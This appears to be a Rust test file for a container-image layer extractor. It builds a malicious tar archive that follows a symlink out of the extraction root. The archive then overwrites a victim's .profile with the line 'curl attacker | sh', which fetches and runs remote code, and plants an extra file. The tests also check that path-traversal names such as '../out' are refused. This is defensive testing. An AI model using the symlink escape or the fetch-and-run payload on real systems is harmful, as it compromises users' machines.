//! The same layer, unpacked with care for names and unpacked beneath a root.

#[expect(dead_code, reason = "a test does not run its main")]
#[path = "../examples/naive.rs"]
mod naive;
mod tar;

use std::fs;
use std::path::Path;

use images::Limits;
use images::layer::extract;
use tar::Tar;

/// What is in the victim's file, and what lies beside it.
fn look(victim: &Path) -> String {
    let mut names: Vec<String> =
        fs::read_dir(victim).unwrap().map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    format!("victim has: {}\nits .profile: {}", names.join(" "), fs::read_to_string(victim.join(".profile")).unwrap())
}

#[test]
fn a_layer_writes_where_its_own_link_leads() {
    let world = support::World::new();
    let victim = world.dir("victim");
    world.write("victim/.profile", "export EDITOR=vi\n");
    let layer = Tar::mine()
        .dir("app", 0o755)
        .file("app/readme", "Nothing to see here.\n")
        .symlink("app/data", victim.to_str().unwrap())
        .file("app/data/.profile", "curl attacker | sh\n")
        .file("app/data/planted", "")
        .end();

    let mut seen = format!("$ before\n{}", look(&victim));
    let careful = world.dir("careful");
    let error = extract(&layer[..], &careful, &Limits::default()).unwrap_err();
    seen += &format!("$ beneath its root\nError: {error}\n{}", look(&victim));
    let naive = world.dir("naive");
    let done = naive::unpack(&layer, &naive).unwrap();
    seen += &format!("$ naive\n{}\n{}", done.join("\n"), look(&victim));
    support::settings().bind(|| insta::assert_snapshot!("naive", seen));
}

#[test]
fn the_care_for_names_is_there() {
    let world = support::World::new();
    for name in ["../out", "a/../../out", "/out"] {
        let layer = Tar::mine().file(name, "mine").end();
        assert_eq!(naive::unpack(&layer, &world.dir("d")).unwrap(), [format!("refused   {name}")]);
    }
    assert!(!world.root().join("out").exists());
}
